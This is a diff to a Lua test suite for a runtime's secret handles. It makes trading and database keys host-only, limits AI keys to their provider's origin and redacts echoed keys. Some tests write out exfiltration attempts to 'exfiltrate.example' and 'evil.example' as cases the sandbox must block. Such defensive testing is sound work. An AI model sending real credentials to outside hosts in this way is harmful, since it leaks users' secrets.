@@ -395,10 +395,12 @@ spec.describe("secrets", function()
   local names = { "KRAKEN_API_KEY", "KRAKEN_SECRET", "SUPABASE_KEY", "OPENAI_API_KEY", "GROQ_API_KEY",
                   "GEMINI_API_KEY" }
 
+  local ai_names = { "OPENAI_API_KEY", "GROQ_API_KEY", "GEMINI_API_KEY" }
+
   spec.it("titan.secret is a function returning opaque handles", function()
     spec.eq(type(titan.secret), "function")
     spec.eq(require("titan.secret"), titan.secret, "require gives the same function")
-    for _, name in ipairs(names) do
+    for _, name in ipairs(ai_names) do
       local h = spec.ok(titan.secret(name), name)
       spec.eq(type(h), "userdata")
       spec.eq(tostring(h), "<secret " .. name .. ">")
@@ -423,6 +425,36 @@ spec.describe("secrets", function()
     spec.ok(not tostring(h):find("=", 1, true), "tostring is only the name")
   end)
 
+  spec.it("the exchange and store credentials are the host's only: no handle for Lua", function()
+    for _, name in ipairs{ "KRAKEN_API_KEY", "KRAKEN_SECRET", "SUPABASE_KEY" } do
+      local err = spec.fails("secret.host_only", titan.secret(name))
+      spec.ok(err.message:find(name, 1, true), err.message)
+    end
+  end)
+
+  spec.it("an AI key goes only to its provider's address (the *_BASE_URL origin)", function()
+    local h = titan.secret("OPENAI_API_KEY")
+    spec.raises(function()
+      http.request { url = "https://exfiltrate.example/collect", headers = { Authorization = { "Bearer ", h } } }
+    end, "may only be sent to")
+    spec.raises(function()   -- same host, another port: another origin
+      http.request { url = "http://127.0.0.1:1/v1/chat/completions", headers = { Authorization = { "Bearer ", h } } }
+    end, "may only be sent to")
+    spec.raises(function()
+      http.batch { { url = base .. "/echo" }, { url = "https://evil.example/", headers = { ["x-api-key"] = h } } }
+    end, "may only be sent to")
+  end)
+
+  spec.it("a server echoing the key back cannot hand it to Lua: responses are redacted", function()
+    local res = assert(http.request { url = base .. "/echo_raw",
+                                      headers = { Authorization = { "Bearer ", titan.secret("OPENAI_API_KEY") } } })
+    local doc = json.decode(res.body)
+    spec.eq(doc.headers.authorization, "Bearer [redacted]", "body")
+    spec.eq(res.headers["x-echo-auth"], "Bearer [redacted]", "response header")
+    local plain = assert(http.request { url = base .. "/echo_raw", headers = { Authorization = "Bearer not-a-secret" } })
+    spec.eq(json.decode(plain.body).headers.authorization, "Bearer not-a-secret", "no secret sent: untouched")
+  end)
+
   spec.it("unknown names are nil, err secret.unknown; a non-string name raises", function()
     spec.fails("secret.unknown", titan.secret("PATH"))
     spec.fails("secret.unknown", titan.secret("openai_api_key"))
@@ -440,16 +472,12 @@ spec.describe("secrets", function()
     local headers = {
       Authorization = { "Bearer ", titan.secret("OPENAI_API_KEY") },
       ["x-goog-api-key"] = titan.secret("GEMINI_API_KEY"),
-      ["API-Key"] = titan.secret("KRAKEN_API_KEY"),
-      apikey = titan.secret("SUPABASE_KEY"),
-      ["X-Two"] = { titan.secret("GROQ_API_KEY"), ":", titan.secret("KRAKEN_SECRET"), "!" },
+      ["X-Two"] = { titan.secret("GROQ_API_KEY"), ":", titan.secret("OPENAI_API_KEY"), "!" },
     }
     local doc = echo { headers = headers }
     spec.eq(doc.headers.authorization, "Bearer <secret:OPENAI_API_KEY>")
     spec.eq(doc.headers["x-goog-api-key"], "<secret:GEMINI_API_KEY>")
-    spec.eq(doc.headers["api-key"], "<secret:KRAKEN_API_KEY>")
-    spec.eq(doc.headers.apikey, "<secret:SUPABASE_KEY>")
-    spec.eq(doc.headers["x-two"], "<secret:GROQ_API_KEY>:<secret:KRAKEN_SECRET>!")
+    spec.eq(doc.headers["x-two"], "<secret:GROQ_API_KEY>:<secret:OPENAI_API_KEY>!")
   end)
 
   spec.it("handles work in batches too", function()
@@ -465,10 +493,10 @@ spec.describe("secrets", function()
     local h = titan.secret("OPENAI_API_KEY")
     spec.raises(function()
       http.request { url = "http://api.openai.com/v1/chat/completions", headers = { Authorization = { "Bearer ", h } } }
-    end, "need an https:// url")
+    end, "may only be sent to")
     spec.raises(function()
       http.batch { { url = base .. "/echo" }, { url = "http://10.1.2.3/", headers = { ["x-api-key"] = h } } }
-    end, "need an https:// url")
+    end, "may only be sent to")
     spec.raises(function()
       http.request { url = base .. "/redirect", follow_redirects = true, headers = { ["x-api-key"] = h } }
     end, "follow_redirects cannot be used with secret headers")
